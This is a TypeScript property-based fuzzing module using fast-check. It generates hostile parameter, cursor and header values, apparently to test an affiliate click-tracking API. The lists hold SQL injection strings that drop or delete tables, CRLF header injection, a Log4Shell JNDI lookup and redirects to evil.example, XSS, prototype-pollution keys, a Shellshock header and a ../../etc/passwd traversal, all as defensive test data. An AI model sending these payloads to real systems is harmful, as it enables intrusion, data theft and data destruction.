// Hostile parameter values, as the raw (already percent-encoded) text that goes into a URL
// or a form body: a lone surrogate or a broken escape cannot be a JavaScript string that
// encodeURIComponent would accept, so every value here is written as it travels.
import fc from 'fast-check'

/** Percent-encodes like a well-behaved client. */
export const enc = (text: string) => encodeURIComponent(text)

// prettier-ignore
const SPECIAL_NUMBERS = [
  '1e309', '-0', 'NaN', '0x10', 'Infinity', '-Infinity', '1e3', '01', '+1', '1.0', '1.', '.5', '-1', '0',
  '2147483648', '4294967297', '9007199254740993', '1_0', '0b1', '0o7', '1n', '1,5', '1%2C5', '١', '１',
  'null', 'undefined', 'true', '[]', '{}', '%20%31', '1%20', '9'.repeat(400), '0.00001', '123456789012345.1',
]
// prettier-ignore
const BROKEN_ENCODING = [
  '%00', '%', '%%', '%zz', '%E0%A4%A', '%C0%AF', '%FF', '%ED%A0%80', '%ED%B0%80', '%F4%90%80%80', '%2',
  'a%0', '%u0041', '%EF%BB%BF', 'x%00y', '%C3%28', '%F0%9F%98',
]
// prettier-ignore
const CR_LF = ['%0D%0A', 'a%0Db', 'a%0Ab', '%0D%0ASet-Cookie:%20x=1', '%0d%0aLocation:%20https://evil.example/', '%09', '%7F']
// prettier-ignore
const SQL = [
  "'", "' OR '1'='1", '1; DROP TABLE clicks;--', '1)--', '\\', '$$', "1' UNION SELECT postback_token FROM campaigns--",
  "'); DELETE FROM conversions; --", '1 OR 1=1', '%27%3B--', 'E%27%5C%27',
].map((s) => (s.includes('%') ? s : enc(s)))
// prettier-ignore
const MACROS_AND_REDIRECTS = [
  '{click_id}', '{sub2}', '{token}', '{affiliate_id}', '${jndi:ldap://evil.example/a}', '{{7*7}}', '//evil.example',
  'https://evil.example/', '@evil.example', '\\\\evil.example', 'javascript:alert(1)', '#x',
  '?redirect=https://evil.example', '&affiliate_id=2', '../../', '<script>alert(1)</script>', '%2F%2Fevil.example',
].map((s) => (s.includes('%') ? s : enc(s)))
// prettier-ignore
const UNICODE = [
  '\u202Eevil\u202C', '😀', 'e\u0301', '👨\u200D👩\u200D👧', '\uFEFF1', 'ﬁ', 'İ', 'ß', 'Ω', '\u0000', '\u200B',
  'שלום', 'مرحبا', '𝟏', '\u{10FFFF}', 'a\u0300\u0301\u0302\u0303\u0304',
].map(enc)
/** Dates a calendar or PostgreSQL refuses, or only just takes. */
// prettier-ignore
export const IMPOSSIBLE_DATES = [
  '2026-02-30', '2026-02-30T00:00Z', '2026-02-29T00:00:00Z', '9999-12-31T23:30Z', '9999-12-31', '10000-01-01',
  '0000-01-01', '0001-01-01T00:00Z', '1969-12-31T23:59:59Z', '2026-13-01', '2026-00-10', '2026-11-31',
  '2026-11-01T24:00Z', '2026-11-01T23:60Z', '+275760-09-13', '-000001-01-01', '2026-11-01T00:00:00.0000000001Z',
  '2026-11-01T00:00+24:00', '2026-11-01T00:00-23:59', '2026-11-01T00:00:00Z%00', '2026-11-01 00:00', '1999-12-31T23:00Z',
  '2100-02-29', '2000-02-29', '2026-11-01T00:00:00.999999999+14:00',
].map((s) => (s.includes('%') ? s : enc(s)))

const cursorOf = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
/** Cursors of the right shape whose date a calendar or PostgreSQL refuses (or only just takes). */
// prettier-ignore
export const IMPOSSIBLE_CURSORS = [
  '2026-02-30T00:00:00.000000Z', '2025-02-29T00:00:00.000000Z', '2026-04-31T12:00:00.000000Z', '0000-01-01T00:00:00.000000Z',
  '9999-12-31T23:59:59.999999Z', '1999-12-31T23:59:59.999999Z', '2026-11-01T25:00:00.000000Z', '2026-11-01T23:60:00.000000Z',
].map((timestamp) => cursorOf([timestamp, 1]))
/** Cursors a client may forge: ids out of range, shapes the API never returns. */
// prettier-ignore
export const FORGED_CURSORS = [
  cursorOf(['2026-11-01T00:00:00.000000Z', 2 ** 53]),
  cursorOf(['2026-11-01T00:00:00.000000Z', 9_223_372_036_854_775_807]),
  cursorOf(['2026-11-01T00:00:00.000000Z', -1]),
  cursorOf(['2026-11-01T00:00:00.000000Z', 1.5]),
  cursorOf(['2026-11-01T00:00:00.000000Z', '1']),
  cursorOf(['2026-11-01T00:00:00.000000Z']),
  cursorOf({ timestamp: '2026-11-01T00:00:00.000000Z', id: 1 }),
  cursorOf("' OR 1=1--"),
  cursorOf(['2026-11-01T00:00:00.000000Z', 1, 2]),
  'not-a-cursor', '====', '', enc('["2026-11-01T00:00:00.000000Z",1]'), 'A'.repeat(190), 'A'.repeat(5000),
]

/** Values a decent client could send: text, numbers, huge and special doubles. */
const generated: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }).map(enc),
  fc.string({ unit: 'grapheme', maxLength: 20 }).map(enc),
  fc.double().map((n) => enc(String(n))),
  fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String),
  fc.integer({ min: 1, max: 2_147_483_647 }).map(String),
  fc.stringMatching(/^[A-Za-z0-9._~:-]{1,140}$/),
)

/** 10-100 kB, in a few shapes. */
const huge: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 10_000, max: 100_000 }), fc.constantFrom('a', '%41', '1', '%F0%9F%98%80', '%00'))
  .map(([size, unit]) => unit.repeat(Math.ceil(size / unit.length)))

/** Any hostile value (raw URL text). */
export const hostileValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SPECIAL_NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom(...BROKEN_ENCODING) },
  { weight: 1, arbitrary: fc.constantFrom(...CR_LF) },
  { weight: 2, arbitrary: fc.constantFrom(...SQL) },
  { weight: 2, arbitrary: fc.constantFrom(...MACROS_AND_REDIRECTS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 2, arbitrary: fc.constantFrom(...IMPOSSIBLE_DATES) },
  { weight: 3, arbitrary: generated },
  { weight: 1, arbitrary: huge },
)

/** Extra parameters: repeats, array and object forms, prototype keys, encoded names. */
export function extraParameter(names: readonly string[]): fc.Arbitrary<[string, string]> {
  const name = fc.constantFrom(...(names.length > 0 ? names : ['id', 'token']))
  return fc.oneof(
    fc.tuple(name, hostileValue),
    fc.tuple(
      name.map((n) => `${n}[]`),
      hostileValue,
    ),
    fc.tuple(
      name.map((n) => `${n}[b]`),
      hostileValue,
    ),
    fc.tuple(
      name.map((n) => `${n}[0]`),
      hostileValue,
    ),
    fc.tuple(
      name.map((n) => enc(n).replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`)),
      hostileValue,
    ),
    fc.tuple(
      fc.constantFrom('__proto__', 'constructor', '__proto__[x]', 'constructor[prototype][x]', 'toString'),
      hostileValue,
    ),
    fc.tuple(fc.constantFrom('%00', '', '%', '&', '=', 'a%00', enc('名前')), hostileValue),
  )
}

/**
 * Header values Node's parser lets through (visible ASCII, obs-text, spaces and tabs), some
 * long: up to `longest` characters. inject has no header size limit; on the wire Node's
 * parser refuses more than 16 kB (raw.ts tries that).
 */
export const headerValue = (longest = 100_000): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 60 }),
    fc.string({ unit: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)), maxLength: 20 }),
    fc.constantFrom(
      '',
      ' ',
      '\t',
      "' OR 1=1--",
      '() { :; }; echo pwned',
      '../../etc/passwd',
      '1.2.3.4, evil',
      'ÿ',
      'café',
    ),
    fc.integer({ min: Math.min(10_000, longest), max: longest }).map((n) => 'x'.repeat(n)),
  )
